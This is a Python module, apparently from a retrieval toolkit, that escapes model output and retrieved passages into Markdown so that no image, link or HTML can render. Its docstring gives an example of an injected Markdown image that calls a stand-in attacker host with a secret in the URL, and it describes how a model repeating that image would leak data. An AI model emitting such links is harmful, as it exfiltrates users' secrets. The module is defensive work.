"""Model output and passages -> Markdown that cannot fetch anything or run anything (and paths
as the terminal shows them).

A passage can carry an injected ``![](http://attacker/?q=secret)``; a model that repeats it would
make the browser fetch the URL the moment the answer is rendered. Escaping is applied per
character, so it is safe on a stream of pieces: no image, link or HTML tag can form however the
text is split.
"""

from __future__ import annotations

import re
from pathlib import Path

from .focus import reflow
from .prompt import quote

#: Characters that start images, links, HTML and escapes in Markdown.
_ACTIVE = re.compile(r"([\\\[\]!<>])")
#: Every Markdown-significant character, for passages shown verbatim.
_ALL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~:$])")


def neutralize(piece: str) -> str:
    """Escape what could become an image, a link or HTML; the rest stays readable Markdown."""
    return _ACTIVE.sub(r"\\\1", piece)


def literal(text: str) -> str:
    """Markdown that shows ``text`` exactly as written."""
    return _ALL.sub(r"\\\1", text).replace("\n", "  \n")


def highlighted_passage(passage: str, answer: str) -> str:
    """The passage as literal Markdown with the sentence that supports ``answer`` highlighted
    (marker yellow, bold). A long page comes windowed around the sentence from
    :meth:`ragkit.Ragkit.show`, so the sentence is in view as soon as it is shown."""
    sentence = quote(passage, answer, limit=len(passage) + 1)
    flowed = reflow(passage)
    at = flowed.find(sentence)
    if not sentence or at < 0:
        return literal(flowed)
    after = at + len(sentence)
    return literal(flowed[:at]) + ":yellow-background[**" + literal(sentence) + "**]" + literal(flowed[after:])


def display_path(path: str) -> str:
    """A path relative to the working directory when it lies below it, else as stored: what
    the terminal shows for a document."""
    try:
        return str(Path(path).relative_to(Path.cwd()))
    except ValueError:
        return path
